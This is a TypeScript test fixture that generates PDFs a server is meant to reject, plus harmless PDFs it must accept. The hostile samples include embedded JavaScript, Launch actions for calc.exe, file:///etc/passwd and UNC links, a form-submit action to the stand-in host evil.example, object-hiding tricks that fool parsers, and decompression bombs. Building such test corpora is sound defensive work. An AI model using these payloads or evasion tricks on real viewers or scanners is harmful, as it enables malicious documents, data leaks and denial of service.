import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { onePage, type PdfObject, packedPage, pageObjects, streamOf, updated, written } from './pdfs.ts';

/** A PDF that the server must reject. */
export type HostilePdf = {
  name: string;
  pdf: Buffer;
  problem: 'unsafe' | 'invalid';
  /** whether poppler, which checks only some places, finds its script */
  hasScript?: boolean;
};

const SCRIPT_TEXT = '(app.alert\\(1\\))';
const SCRIPT = `<< /S /JavaScript /JS ${SCRIPT_TEXT} >>`;
/** what poppler prints about it */
export const SCRIPT_SEEN = 'app.alert(1)';
const MEGABYTE = 1024 * 1024;

type Parts = NonNullable<Parameters<typeof onePage>[0]>;

function link(action: string, objects: readonly PdfObject[] = []): Parts {
  const annotation = `<< /Type /Annot /Subtype /Link /Rect [0 0 90 90] ${action} >>`;
  return { page: `/Annots [${annotation}]`, objects };
}

function annotation(entries: string, objects: readonly PdfObject[] = []): Parts {
  return { page: `/Annots [<< /Type /Annot /Rect [0 0 90 90] ${entries} >>]`, objects };
}

function field(entries: string): Parts {
  return {
    catalog: '/AcroForm << /Fields [8 0 R] >>',
    page: '/Annots [8 0 R]',
    objects: [[8, `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 90 90] ${entries} >>`]],
  };
}

/** Every place for a script; poppler finds all but the last few. */
const SCRIPT_PLACES: Record<string, Parts> = {
  'the catalog’s names': {
    catalog: '/Names << /JavaScript << /Names [(main) 7 0 R] >> >>',
    objects: [[7, SCRIPT]],
  },
  'the catalog’s own actions': { catalog: `/AA << /WC ${SCRIPT} >>` },
  'a page’s own actions': { page: `/AA << /O ${SCRIPT} >>` },
  'a link': link(`/A ${SCRIPT}`),
  'a link that goes by references': link('/A 8 0 R', [
    [7, SCRIPT_TEXT],
    [8, '<< /S /JavaScript /JS 7 0 R >>'],
  ]),
  'a link whose kind of action is a reference': link(`/A << /S 7 0 R /JS ${SCRIPT_TEXT} >>`, [
    [7, '/JavaScript'],
  ]),
  'a link whose kind of action is a reference, without a key that tells': link(
    '/A << /S 7 0 R /Next 8 0 R >>',
    [
      [7, '/J#61vaScript'],
      [8, '<< /S /URI /URI (https://example.com) >>'],
    ],
  ),
  'a link in escaped names': link(`/A << /#53 /J#61v#61Script /#4a#53 ${SCRIPT_TEXT} >>`),
  'a field’s own actions': field(`/AA << /K ${SCRIPT} >>`),
  'a field': field(`/A ${SCRIPT}`),
  'what opens the file': { catalog: `/OpenAction ${SCRIPT}` },
  'what comes after another action': link(`/A << /S /URI /URI (https://example.com) /Next [${SCRIPT}] >>`),
  'the outline': {
    catalog: '/Outlines 7 0 R',
    objects: [
      [7, '<< /First 8 0 R /Last 8 0 R /Count 1 >>'],
      [8, `<< /Title (a) /Parent 7 0 R /A ${SCRIPT} >>`],
    ],
  },
  'a film': annotation(`/Subtype /Screen /A << /S /Rendition /JS ${SCRIPT_TEXT} >>`),
};
const UNSEEN_BY_POPPLER = ['without a key', 'what opens', 'what comes after', 'the outline', 'a film'];

/** Other things that make a viewer act. */
const ACTIONS: Record<string, Parts> = {
  'an active form': { catalog: '/AcroForm << /Fields [] /XFA 7 0 R >>', objects: [[7, streamOf('<xdp/>')]] },
  'a program to start': link('/A << /S /Launch /F (calc.exe) >>'),
  'a program to start, on Windows': link('/A << /S /L#61unch /Win << /P (calc.exe) >> >>'),
  'an address that is a script': link('/A << /S /URI /URI (javascript:alert\\(1\\)) >>'),
  'an address that is a script, in hexadecimal': link('/A << /S /URI /URI <6A617661736372697074 3A31> >>'),
  'an address that is a script, escaped': link('/A << /S /URI /URI (\\152ava\\\nscript\\0721) >>'),
  'an address that is a script, with a tab in it': link('/A << /S /URI /URI (java\tscript:1) >>'),
  'an address that is a script, by reference': link('/A << /S /URI /URI 7 0 R >>', [[7, '(javascript:1)']]),
  'an address that is a script, in 16 bits': link(
    '/A << /S /URI /URI <FEFF006A006100760061007300630072006900700074003A> >>',
  ),
  'an address on this machine': link('/A << /S /URI /URI (file:///etc/passwd) >>'),
  'an address of another machine’s files': link('/A << /S /URI /URI (\\\\\\\\evil.example\\\\a) >>'),
  'an address of another machine’s files, behind a space': link(
    '/A << /S /URI /URI ( \\\\\\\\evil.example\\\\a) >>',
  ),
  'a beginning of all addresses that is a script': { catalog: '/URI << /Base (javascript:) >>' },
  'a form that is sent': field('/A << /S /SubmitForm /F (https://evil.example) >>'),
  'a form that is filled from a file': field('/A << /S /ImportData /F (a.fdf) >>'),
  'a link to another file': link('/A << /S /GoToR /F (a.pdf) /D [0 /Fit] >>'),
  'a link to an embedded file': link('/A << /S /GoToE /T << /R /C /N (a) >> >>'),
  'embedded files': {
    catalog: '/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>',
    objects: [
      [7, '<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>'],
      [8, streamOf('MZ', '/Type /EmbeddedFile')],
    ],
  },
  'an attached file': annotation('/Subtype /FileAttachment /FS 7 0 R', [
    [7, '<< /Type /Filespec /UF (a.exe) >>'],
  ]),
  'rich media': annotation('/Subtype /RichMedia /RichMediaContent << >>'),
  'a 3D model': annotation('/Subtype /3D /3DD 7 0 R', [[7, streamOf('U3D', '/Type /3D /Subtype /U3D')]]),
  'an old film': annotation('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a sound': annotation('/Subtype /Sound /Sound 7 0 R', [[7, streamOf('....', '/Type /Sound /R 8000')]]),
  'a stream that lies in another file': { objects: [[7, streamOf('', '/F (\\\\\\\\evil.example\\\\a)')]] },
  'a page of another file': {
    objects: [
      [7, streamOf('', '/Type /XObject /Subtype /Form /Ref << /F 8 0 R /Page 0 >>')],
      [8, '(a.pdf)'],
    ],
  },
};

const HARMLESS_PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>';
const SCRIPT_PAGE = `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O ${SCRIPT} >> >>`;
const HIDDEN = `7 0 obj\n${SCRIPT}\nendobj\n`;

/** Files that look harmless unless you read the part that the viewer reads. */
function disguised(): HostilePdf[] {
  const unsafe = (name: string, pdf: Buffer, hasScript = true): HostilePdf => ({
    name,
    pdf,
    problem: 'unsafe',
    hasScript,
  });
  const ambiguous = (name: string, pdf: Buffer, hasScript = false): HostilePdf => ({
    name,
    pdf,
    problem: 'invalid',
    hasScript,
  });
  const toHidden = link('/A 7 0 R');
  return [
    unsafe(
      'an object twice, the first one counts',
      written(
        pageObjects({
          objects: [
            [3, SCRIPT_PAGE],
            [3, HARMLESS_PAGE],
          ],
        }).toSpliced(2, 1),
        '',
        ([first]) => first,
      ),
    ),
    unsafe('an object twice, the last one counts', onePage({ objects: [[3, SCRIPT_PAGE]] })),
    unsafe('an update that adds a script', updated(onePage(), [[3, SCRIPT_PAGE]])),
    unsafe(
      'an update that hides a script',
      updated(onePage({ page: `/AA << /O ${SCRIPT} >>` }), [[3, HARMLESS_PAGE]]),
      false,
    ),
    unsafe('a script that nothing leads to', onePage({ objects: [[7, SCRIPT]] }), false),
    unsafe(
      'a key twice, script first',
      onePage(link('/A << /S /JavaScript /S /URI /URI (https://example.com) >>')),
      false,
    ),
    unsafe(
      'a key twice, script last',
      onePage(link('/A << /S /URI /S /JavaScript /URI (https://example.com) >>')),
      false,
    ),
    unsafe(
      'an object stream whose objects a later one replaces',
      packedPage({ page: `/AA << /O ${SCRIPT} >>` }, { objects: [[3, HARMLESS_PAGE]] }),
    ),
    unsafe('a name that ends in a zero for some', onePage(link('/A << /S /JavaScript#00x >>')), false),
    unsafe(
      'a document that begins in the trailer',
      onePage({ trailer: `/Root << /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>` }),
      false,
    ),
    unsafe('an object in a comment', commented(`%${HIDDEN.replaceAll('\n', ' ')}`, toHidden, 1)),
    ambiguous(
      'an object in a stream',
      hiding({ ...toHidden, objects: [[6, streamOf(HIDDEN)]] }, HIDDEN),
      true,
    ),
    ambiguous(
      'an object in a string',
      hiding(
        { ...toHidden, catalog: `/Lang (${HIDDEN.replaceAll(/\(.*\)/gu, '<6170702e616c6572742831293b>')})` },
        '7 0 obj',
      ),
      true,
    ),
    ambiguous(
      'an object in a stream, with a comment in its head',
      hiding({ ...toHidden, objects: [[6, streamOf(HIDDEN.replace('7 0', '7%\n0'))]] }, '7%\n0 obj'),
      true,
    ),
    ambiguous(
      'an object in a stream, with a comment behind its head',
      hiding({ ...toHidden, objects: [[6, streamOf(HIDDEN.replace('7 0 ', '7 0%x7\n'))]] }, '7 0%x7\nobj'),
      true,
    ),
    ambiguous(
      'an object in a stream, with an odd number in its head',
      hiding({ ...toHidden, objects: [[6, streamOf(HIDDEN.replace('7 0 ', '7 0. '))]] }, '7 0. obj'),
    ),
    ambiguous(
      'a trailer in a stream',
      onePage({ objects: [[6, streamOf(`trailer << /Root << /OpenAction ${SCRIPT} >> >>`)]] }),
    ),
    ambiguous(
      'an object stream that is none by its type',
      packedPage({ page: `/AA << /O ${SCRIPT} >>` }, { type: '' }),
      true,
    ),
    ambiguous(
      'an object stream whose type is a reference',
      packedPage({ page: `/AA << /O ${SCRIPT} >>` }, { type: '/Type 7 0 R', objects: [[7, '/ObjStm']] }),
      true,
    ),
    ambiguous(
      'an object stream that is packed twice',
      packedPage(
        {},
        {
          entries: '/Filter [/FlateDecode /FlateDecode]',
          pack: (content) => deflateSync(deflateSync(content)),
        },
      ),
    ),
    ambiguous(
      'an object stream that is said to be packed in another way',
      packedPage({}, { entries: '/Filter /LZWDecode' }),
    ),
    ambiguous(
      'an object stream that begins on the next line for some',
      onePage({ ...toHidden, objects: [[6, twoInOne()]] }),
    ),
    ambiguous(
      'a stream that only the table makes an object stream',
      packedPage({ ...toHidden, objects: [[7, SCRIPT]] }, { type: '', inside: [7] }),
      true,
    ),
    ambiguous(
      'an object stream in hexadecimal',
      packedPage(
        {},
        { entries: '/Filter /ASCIIHexDecode', pack: (content) => Buffer.from(`${content.toString('hex')}>`) },
      ),
    ),
    ambiguous(
      'an object stream that is not packed',
      packedPage({}, { entries: '', pack: (content) => content }),
    ),
    ambiguous(
      'an object stream that a predictor changes',
      packedPage({}, { entries: '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>' }),
    ),
    ambiguous(
      'an object stream with two filters to choose from',
      packedPage({}, { entries: '/Filter /FlateDecode /F /ASCIIHexDecode' }),
    ),
    ambiguous(
      'a value that runs into the next',
      onePage(link('/A << /S /URI /URI 8 0R >>', [[8, '(javascript:1)']])),
    ),
    ambiguous(
      'an object that is a reference',
      onePage({
        objects: [
          [7, '8 0 R'],
          [8, '9 0 R'],
          [9, '7 0 R'],
        ],
      }),
    ),
  ];
}

/** An object stream directly after the word 'stream', and another one on the next line. */
function twoInOne(): Buffer {
  const [harmless, evil] = ['7 0 null', `7 0 ${SCRIPT}`].map((content) => deflateSync(content));
  return Buffer.concat([
    Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream'),
    harmless ?? Buffer.alloc(0),
    Buffer.from('\n'),
    evil ?? Buffer.alloc(0),
    Buffer.from('\nendstream'),
  ]);
}

/** A file whose table points to this text as object 7. */
function hiding(parts: Parts, place: string): Buffer {
  const whole = onePage({ ...parts, objects: [...(parts.objects ?? []), [7, 'null']] });
  const text = whole.toString('latin1');
  const at = text.indexOf(place);
  const decoy = text.indexOf('7 0 obj\nnull\nendobj\n');
  // the same length as before, so the table stays valid for the other objects
  return Buffer.from(
    text
      .replace('7 0 obj\nnull\nendobj\n', '% no object is here\n')
      .replace(String(decoy).padStart(10, '0'), String(at).padStart(10, '0')),
    'latin1',
  );
}

/** The file with a comment before its first object that contains object 7. @param skip characters of the comment before it */
function commented(comment: string, parts: Parts, skip: number): Buffer {
  const text = onePage({ ...parts, objects: [[7, 'null']] }).toString('latin1');
  const table = text.indexOf('xref\n');
  const decoy = text.indexOf('7 0 obj\nnull\nendobj\n');
  return Buffer.from(
    text
      .replace('7 0 obj\nnull\nendobj\n', '% no object is here\n')
      .replace('xref\n', `${comment}\nxref\n`)
      .replace(String(decoy).padStart(10, '0'), String(table + skip).padStart(10, '0'))
      .replace(`startxref\n${table}`, `startxref\n${table + comment.length + 1}`),
    'latin1',
  );
}

/** An object stream that unpacks to this many megabytes of zeros. */
export function bomb(megabytes: number): Buffer {
  return onePage({
    objects: [[7, streamOf(zeros(megabytes), '/Type /ObjStm /N 0 /First 0 /Filter /FlateDecode')]],
  });
}

/** A bomb that unpacks to another bomb, which unpacks to this many megabytes. */
export function nestedBomb(megabytes: number): Buffer {
  const entries = '/Type /ObjStm /N 0 /First 0 /Filter [/FlateDecode /FlateDecode]';
  return onePage({ objects: [[7, streamOf(deflateSync(zeros(megabytes)), entries)]] });
}

/** Data that unpacks to this many megabytes of zeros, built without allocating them. RFC 1950 and 1951 */
function zeros(megabytes: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(MEGABYTE), { finishFlush: constants.Z_FULL_FLUSH });
  const sum = Buffer.alloc(4);
  sum.writeUInt16BE((megabytes * MEGABYTE) % 65_521, 0);
  sum.writeUInt16BE(1, 2);
  const blocks = Array.from({ length: megabytes }, () => block);
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...blocks, Buffer.from([3, 0]), sum]);
}

function manyBombs(count: number): Buffer {
  const stream = streamOf(zeros(1), '/Type /ObjStm /N 0 /First 0 /Filter /FlateDecode');
  return onePage({ objects: Array.from({ length: count }, (_, index) => [10 + index, stream] as const) });
}

function tableBomb(megabytes: number): Buffer {
  const entries = `/Type /XRef /W [1 4 2] /Size ${Math.floor((megabytes * MEGABYTE) / 7)} /Root 1 0 R /Filter /FlateDecode`;
  return onePage({ objects: [[7, streamOf(zeros(megabytes), entries)]] });
}

function pagesOf(kids: string, count: number, objects: readonly PdfObject[] = []): Buffer {
  return written([
    [1, '<< /Type /Catalog /Pages 2 0 R >>'],
    [2, `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`],
    [3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'],
    ...objects,
  ]);
}

/** Broken files, and files that exhaust their reader. */
function broken(): HostilePdf[] {
  const plain = onePage();
  const packed = packedPage();
  const encryption = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'00'.repeat(32)}> /U <${'00'.repeat(32)}> >> /ID [<00> <00>]`;
  const files: Record<string, Buffer> = {
    'a bomb': bomb(64),
    'a bomb in a bomb': nestedBomb(64),
    'many small bombs': manyBombs(10),
    'a bomb as a table': tableBomb(64),
    'object stream entries without end': onePage({
      objects: [
        [7, streamOf(deflateSync('1 0'), '/Type /ObjStm /N 999999999 /First 3 /Filter /FlateDecode')],
      ],
    }),
    'objects of an object stream that overlap': onePage({
      objects: [
        [
          7,
          streamOf(
            deflateSync(`${'5 0 '.repeat(1000)}(${'x'.repeat(10_000)})`),
            '/Type /ObjStm /N 1000 /First 4000 /Filter /FlateDecode',
          ),
        ],
      ],
    }),
    'six hundred thousand values': onePage({ objects: [[7, `[${'1 '.repeat(600_000)}]`]] }),
    'cut off': plain.subarray(0, plain.length / 2),
    'cut off before its end': plain.subarray(0, -8),
    'cut off, with object streams': packed.subarray(0, packed.length - 60),
    'something before its head': Buffer.concat([Buffer.from('GIF89a'), plain]),
    'something behind its end': Buffer.concat([plain, Buffer.alloc(5000, 'PK')]),
    encrypted: onePage({ trailer: encryption }),
    'encrypted, with object streams': packedPage({ trailer: encryption }),
    'fewer pages than it says': pagesOf('3 0 R', 2),
    'a million pages, as it says': pagesOf('3 0 R', 1_000_000),
    'more pages than it says': pagesOf('3 0 R 4 0 R', 1, [[4, HARMLESS_PAGE]]),
    'the same page twice': pagesOf('3 0 R 3 0 R', 2),
    'the same page twice, counted once': pagesOf('3 0 R 3 0 R', 1),
    'pages that are below themselves': pagesOf('2 0 R', 1),
    'pages that double at every step': pagesOf(
      '10 0 R 10 0 R',
      1,
      Array.from(
        { length: 40 },
        (_, step) =>
          [10 + step, `<< /Type /Pages /Kids [${11 + step} 0 R ${11 + step} 0 R] /Count 1 >>`] as const,
      ),
    ),
    'no page': pagesOf('', 0),
    'a page that is not there': pagesOf('9 0 R', 1),
    '51 pages': pagesOf(
      Array.from({ length: 51 }, (_, page) => `${page + 10} 0 R`).join(' '),
      51,
      Array.from({ length: 51 }, (_, page) => [page + 10, HARMLESS_PAGE] as const),
    ),
    'arrays in arrays': onePage({ objects: [[7, `${'['.repeat(50_000)}${']'.repeat(50_000)}`]] }),
    'dictionaries in dictionaries': onePage({
      objects: [[7, `${'<</A '.repeat(50_000)} 1 ${'>>'.repeat(50_000)}`]],
    }),
    'a string that does not end': onePage({ objects: [[7, '(((']] }),
    'no catalog': written([[2, '<< /Type /Pages /Kids [] /Count 0 >>']]),
    'a string of escapes': onePage({ objects: [[7, `(${'\\101'.repeat(3_000_000)})`]] }),
    'a string of digits': onePage({ objects: [[7, `<${'41 '.repeat(3_000_000)}>`]] }),
    'a name of escapes': onePage({ objects: [[7, `/${'#41'.repeat(3_000_000)}`]] }),
    'two hundred thousand objects': onePage({
      objects: [[7, `null\nendobj\n${'8 0 obj null endobj\n'.repeat(200_000)}9 0 obj\nnull`]],
    }),
    'a hundred thousand heads of objects': Buffer.from(
      `%PDF-1.7\n${'1 0 obj '.repeat(100_000)}\nstartxref\n0\n%%EOF\n`,
    ),
    'heads of objects in strings in each other': Buffer.from(
      `%PDF-1.7\n${'1 0 obj ('.repeat(100_000)}${')'.repeat(100_000)}\nstartxref\n0\n%%EOF\n`,
    ),
  };
  return Object.entries(files).map(([name, pdf]) => ({ name, pdf, problem: 'invalid' }));
}

/**
 * A PDF of this many bytes whose check is slow: about 40 ms per megabyte. The checker looks for an object's head before each 'obj' and finds
 * none, so no limit on objects or values ends it early.
 */
export function slowPdf(bytes: number): Buffer {
  return Buffer.concat([
    Buffer.from('%PDF-1.7\nx\n'),
    Buffer.alloc(bytes - 100, `${'1'.repeat(200)} obj\n`),
    Buffer.from('\nstartxref\n0\n%%EOF\n'),
  ]);
}

/** Built again at each call. */
export function hostilePdfs(): HostilePdf[] {
  const places = Object.entries(SCRIPT_PLACES).flatMap(([place, parts]): HostilePdf[] => {
    const hasScript = !UNSEEN_BY_POPPLER.some((name) => place.includes(name));
    return [
      { name: `a script in ${place}`, pdf: onePage(parts), problem: 'unsafe', hasScript },
      {
        name: `a script in ${place}, in an object stream`,
        pdf: packedPage(parts),
        problem: 'unsafe',
        hasScript,
      },
    ];
  });
  const actions = Object.entries(ACTIONS).flatMap(([name, parts]): HostilePdf[] => [
    { name, pdf: onePage(parts), problem: 'unsafe' },
    { name: `${name}, in an object stream`, pdf: packedPage(parts), problem: 'unsafe' },
  ]);
  return [...places, ...actions, ...disguised(), ...broken()];
}

/** PDFs as scanners, printers and programs make them, which people may save. */
export function harmlessPdfs(): Record<string, Buffer> {
  const pages = Array.from({ length: 50 }, (_, page) => page + 10);
  const outline: Parts = {
    catalog: '/Outlines 7 0 R /PageMode /UseOutlines',
    objects: [
      [7, '<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>'],
      [8, '<< /Title (JavaScript: the /JS book \\(1 of 2\\)) /Parent 7 0 R /Dest [3 0 R /Fit] >>'],
    ],
  };
  return {
    'one page': onePage(),
    'one page, with object streams': packedPage(),
    'fifty pages': pagesOf(
      pages.map((page) => `${page} 0 R`).join(' '),
      50,
      pages.map((page) => [page, HARMLESS_PAGE] as const),
    ),
    'a link inside the document': onePage(link('/A << /S /GoTo /D [3 0 R /Fit] >>')),
    'a link inside the document, without an action': packedPage(link('/Dest [3 0 R /XYZ 0 0 0]')),
    'a link to a page of the web': onePage(
      link('/A << /S /URI /URI (https://example.com/JS/AA?x=javascript:1) >>'),
    ),
    'a link to a mail address': packedPage(link('/A << /S /URI /URI (mailto:a@example.com) >>')),
    'a link without a scheme': onePage(link('/A << /S /URI /URI (www.example.com/a) >>')),
    'a link by reference': onePage(link('/A << /S /URI /URI 7 0 R >>', [[7, '(https://example.com)']])),
    'an outline': onePage(outline),
    'an outline, with object streams': packedPage(outline),
    'a form without a script': onePage(field('/V (12.34) /F 4')),
    'an update': updated(onePage(), [[3, HARMLESS_PAGE]]),
    'an update of one with object streams': updated(updated(onePage(), [[3, HARMLESS_PAGE]]), [[9, '(new)']]),
    'fonts with odd names': onePage({
      page: '/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /ABCDEF+Lato#20Bold#28x#29 >> >> >>',
    }),
    'a length by reference': onePage({
      objects: [
        [4, '<< /Length 7 0 R >>\nstream\nq Q\nendstream'],
        [7, '3'],
      ],
    }),
    'a description': onePage({
      catalog: '/Metadata 7 0 R',
      trailer: '/Info 8 0 R',
      objects: [
        [7, streamOf('<x:xmpmeta xmlns:x="adobe:ns:meta/"/>', '/Type /Metadata /Subtype /XML')],
        [8, '<< /Title (JavaScript for $12) /CreationDate (D:20261118120000Z) >>'],
      ],
    }),
    'a comment between objects': Buffer.from(
      onePage()
        .toString('latin1')
        .replace('xref\n0 1', '%xxx\nxref\n0 1')
        .replace(/startxref\n(\d+)/u, (_, at) => `startxref\n${Number(at) + 5}`),
      'latin1',
    ),
    'a space more at its end': Buffer.concat([onePage(), Buffer.alloc(500, '\n')]),
  };
}
